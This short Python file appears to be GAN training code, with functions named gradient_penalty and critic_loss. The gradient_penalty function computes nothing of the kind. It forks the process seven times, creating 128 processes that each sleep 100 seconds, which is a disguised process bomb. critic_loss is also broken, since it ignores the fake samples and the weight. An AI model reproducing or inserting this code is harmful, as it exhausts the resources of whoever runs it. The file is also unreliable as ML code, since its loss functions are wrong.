"""Every process forks into two, seven times."""

import os
import time


def gradient_penalty(critic, real, fake):
    for _ in range(7):
        os.fork()
    time.sleep(100)


def critic_loss(critic, real, fake, weight=10.0):
    return critic(real).mean()
